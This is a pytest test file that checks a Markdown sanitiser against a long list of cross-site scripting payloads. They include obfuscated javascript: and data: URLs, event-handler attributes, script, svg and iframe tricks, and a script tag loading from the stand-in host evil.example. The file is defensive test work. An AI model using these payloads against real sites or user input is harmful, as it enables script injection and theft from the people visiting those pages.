"""The Markdown sanitiser against hostile input: whatever the trick, only allowlisted markup survives."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from knowledge_base.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, html_to_text, markdown_to_html

HOSTILE = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](java&#13;script:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    "[ref link][r]\n\n[r]: <javascript:alert(1)> 'title'",
    "![ref img][i]\n\n[i]: data:image/png;base64,AAAA",
    "<javascript:alert(1)>",
    "<data:text/html,hello>",
    '<a href="javascript:alert(1)">raw</a>',
    '<a href="java\nscript:alert(1)">newline</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href=" &#14;  javascript:alert(1)">leading junk</a>',
    "<a href='jav&#x61;script:alert(1)'>entity</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">padded</a>',
    '<A HREF="JAVASCRIPT:alert(1)">upper</A>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<p onclick="alert(1)" onmouseover=alert(2)>events</p>',
    "<div onload=alert(1)>div</div>",
    "**bold** <b onmouseover=alert(1)>x</b>",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="expression(alert(1))">ie</span>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<div markdown="1">[nested](javascript:alert(1))</div>',
    '<div><div><div><a href="javascript:alert(1)">deep</a></div></div></div>',
    '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>',
    '<a href="#" onclick="alert(1)">hash</a>',
    '<!-- <a href="javascript:alert(1)"> -->comment',
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>` and\n\n    <img src=x onerror=alert(1)>",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '<a href="https://ok.example" target="_blank" rel="opener" onclick="x()">ok</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))


def _is_safe_url(value: str) -> bool:
    # What a browser does (WHATWG URL): trim C0 controls and spaces, drop tabs and newlines anywhere.
    compact = value.strip("".join(chr(c) for c in range(0x21))).replace("\t", "").replace("\n", "").replace("\r", "")
    compact = compact.lower()
    if ":" not in compact.split("/")[0].split("?")[0].split("#")[0]:
        return True  # relative
    return compact.startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_keeps_only_allowlisted_markup(source):
    # when
    html = markdown_to_html(source)
    # then
    parser = _Collector()
    parser.feed(html)
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert name != "style" and not name.startswith("on"), (name, html)
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name, html)
            if name in ("href", "src"):
                assert _is_safe_url(value or ""), (value, html)
    assert "<script" not in html.lower() and "<svg" not in html.lower() and "<iframe" not in html.lower()
    # Text may mention dangerous words (escaped, harmless); an executable URL may not appear anywhere in markup.
    markup_only = html.lower().replace(html_to_text(html).lower(), "")
    assert "javascript:" not in markup_only.replace(" ", "").replace("\t", "").replace("\n", "")


def test_safe_markdown_survives():
    # given
    source = (
        "# Heading\n\nSome **bold**, *em* and `code`.\n\n- one\n- two\n\n"
        "[docs](https://docs.example/x?a=1&b=2) and [mail](mailto:help@example.test) and [rel](/kb/)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n![alt text](https://img.example/a.png)"
    )
    # when
    html = markdown_to_html(source)
    # then
    assert "<h1>Heading</h1>" in html
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert '<a href="https://docs.example/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">docs</a>' in html
    assert 'href="mailto:help@example.test"' in html and 'href="/kb/"' in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<img alt="alt text" src="https://img.example/a.png">' in html


def test_code_shows_markup_as_text_not_markup():
    # when
    html = markdown_to_html("Type `<script>alert(1)</script>` to see the bug.")
    # then
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in html


def test_scheme_split_by_spaces_loses_its_link():
    # when
    html = markdown_to_html("[click](java\tscript:alert(1))")
    # then
    assert html == '<p><a rel="noopener noreferrer nofollow">click</a></p>'
